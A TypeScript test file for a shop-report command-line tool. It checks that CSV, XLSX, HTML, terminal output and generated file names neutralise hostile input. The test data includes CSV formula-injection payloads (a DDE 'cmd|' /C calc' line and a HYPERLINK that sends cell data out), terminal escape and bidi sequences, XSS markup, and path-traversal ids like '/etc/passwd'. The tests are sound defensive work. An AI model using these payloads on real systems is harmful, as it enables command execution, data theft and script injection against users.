/** What comes of hostile texts in files and on screens: formulas, controls, markup, names of files. */
import { createRequire } from "node:module";
import { parse } from "csv-parse/sync";
import { expect } from "vitest";
import { PEOPLE, RUN, SHOP } from "../cli/shop.js";
import { type Case, corpus, type Outcome } from "./corpus.js";

const exceljs: typeof import("exceljs") = createRequire(import.meta.url)("exceljs");

const named = (name: string): Case["files"] => ({
  ...SHOP,
  "data/people.csv": PEOPLE.replace("王小明", `"${name.replaceAll('"', '""')}"`),
});

/** A name that a spreadsheet program would take for a formula. */
const formula = (what: string, cell: string, name = cell): Case => ({
  what: `${what} as a name: text in CSV and XLSX`,
  files: named(cell),
  exit: 0,
  says: [],
  also: async ({ work }) => {
    const rows: string[][] = parse(work.read("out/people.csv"), { bom: true });
    expect(rows[1]).toContain(`'${name}`);
    expect(rows.flat()).not.toContain(name);
    const book = new exceljs.Workbook();
    await book.xlsx.readFile(`${work.folder}/out/report.xlsx`);
    const cells = book.worksheets.flatMap((sheet) => sheet.getSheetValues().flat());
    for (const cell of cells) {
      if (typeof cell === "object" && cell !== null && "formula" in cell)
        expect(cell.formula).not.toContain(name.slice(1));
    }
    expect(cells.map((cell) => (typeof cell === "string" ? cell : ""))).toContain(name);
  },
});

/** Neither the screen nor the page has these characters as they are. */
const neverRaw =
  (characters: string) =>
  ({ work, stdout }: Outcome) => {
    const page = work.read("out/report.html");
    for (const character of characters) {
      expect(stdout).not.toContain(character);
      expect(page).not.toContain(character);
    }
  };

corpus("output: formulas", { line: `${RUN} --out out` }, [
  formula("=HYPERLINK(…)", '=HYPERLINK("http://x.example/?"&A1,"click")'),
  formula("＝1 in full width", "＝1+1"),
  formula("@x", "@SUM(1)"),
  formula("+1", "+1+cmd|' /C calc'!A0"),
  formula("-1", "-2+3"),
  formula("a leading tab", "\t=1", "=1"),
  formula("a leading blank", " =1", "=1"),
  {
    what: "a negative number is no formula",
    files: { ...SHOP, "data/jobs.csv": SHOP["data/jobs.csv"].replace("10-01,1", "10-01,-20") },
    exit: 0,
    says: [],
    also: ({ work }) => expect(work.read("out/people.csv")).toContain(",-46.67,"),
  },
]);

corpus("output: characters that screens obey", { line: `${RUN} --out out` }, [
  {
    what: "ESC in a name",
    files: named("王\u001b[31m小明"),
    exit: 0,
    says: ["csv-control-character: people.csv row 2, column B"],
    also: neverRaw("\u001b"),
  },
  {
    what: "OSC 8, a link of terminals",
    files: named("\u001b]8;;http://x.example\u0007王\u001b]8;;\u0007"),
    exit: 0,
    says: ["csv-control-character: people.csv row 2, column B"],
    also: neverRaw("\u001b\u0007"),
  },
  { what: "C1 controls", files: named("王\u009b31m小明"), exit: 0, says: [], also: neverRaw("\u009b") },
  {
    what: "bidi marks that turn a name around",
    files: named("\u202e明小王\u2066"),
    exit: 0,
    says: [],
    also: neverRaw("\u202e\u2066"),
  },
  {
    what: "markup in a name",
    files: named("<img src=x onerror=alert(1)>"),
    exit: 0,
    says: [],
    also: ({ work }) => expect(work.read("out/report.html")).not.toContain("<img"),
  },
  {
    what: "markup that closes a script",
    files: named("</script><script>alert(1)</script>"),
    exit: 0,
    says: [],
    also: ({ work }) => expect(work.read("out/report.html")).not.toContain("<script>alert"),
  },
  {
    what: "a name of many lines",
    files: named("王\n小\r\n明"),
    exit: 0,
    says: [],
    also: ({ stdout }) => expect(stdout).not.toContain("\r"),
  },
  { what: "half a surrogate pair, by an escape of XLSX", files: named("王_xD83D_"), exit: 0, says: [] },
]);

const STATEMENTS = "statements rules/shop.yaml --data data --period 2026-10 --out out";
const LONG = "王小明".repeat(30);
/** The person has this id; their statement must have this name. */
const filed = (what: string, id: string, name: RegExp): Case => ({
  what: `${what} as an id: a safe file name`,
  files: {
    ...SHOP,
    "data/people.csv": PEOPLE.replace("1,王", `"${id}",王`),
    "data/jobs.csv": SHOP["data/jobs.csv"].replaceAll(",1,2", `,"${id}",2`),
  },
  exit: 0,
  says: [],
  also: ({ work }) => {
    const names = work.names("out");
    expect(names.length).toBe(4);
    const [own] = names.filter((one) => !["2.html", "3.html", "statements.json"].includes(one));
    expect(own).toMatch(name);
    expect(work.names()).toEqual(["data", "out", "rules"]);
  },
});
corpus("output: names of files", { line: STATEMENTS }, [
  filed("../x", "../x", /^_x-[0-9a-f]{8}\.html$/),
  filed("..", "..", /^_-[0-9a-f]{8}\.html$/),
  filed("an absolute path", "/etc/passwd", /^_etc_passwd-[0-9a-f]{8}\.html$/),
  filed("a path of Windows", "C:\\x", /^C_x-[0-9a-f]{8}\.html$/),
  filed("CON", "CON", /^CON-[0-9a-f]{8}\.html$/),
  filed("con.txt", "con.txt", /^con_txt-[0-9a-f]{8}\.html$/),
  filed("a 90-character Chinese name", LONG, /^(王小明)+王?小?-[0-9a-f]{8}\.html$/),
  filed("a name with a line break", "a\nb", /^a_b-[0-9a-f]{8}\.html$/),
  filed("a hidden file", ".ssh", /^_ssh-[0-9a-f]{8}\.html$/),
  filed("a pipe and a star", "a|b*?", /^a_b_-[0-9a-f]{8}\.html$/),
  {
    what: "ids that differ by case alone do not take each other's file",
    files: {
      ...SHOP,
      "rules/shop.yaml": SHOP["rules/shop.yaml"].replace(
        "file: people\n",
        "file: people\n    alike_keys: allowed\n",
      ),
      "data/people.csv": `${PEOPLE}a,赵,乙,10\nA,钱,乙,10\n`,
    },
    exit: 0,
    says: [],
    also: ({ work }) => expect(new Set(work.names("out").map((name) => name.toLowerCase())).size).toBe(6),
  },
]);
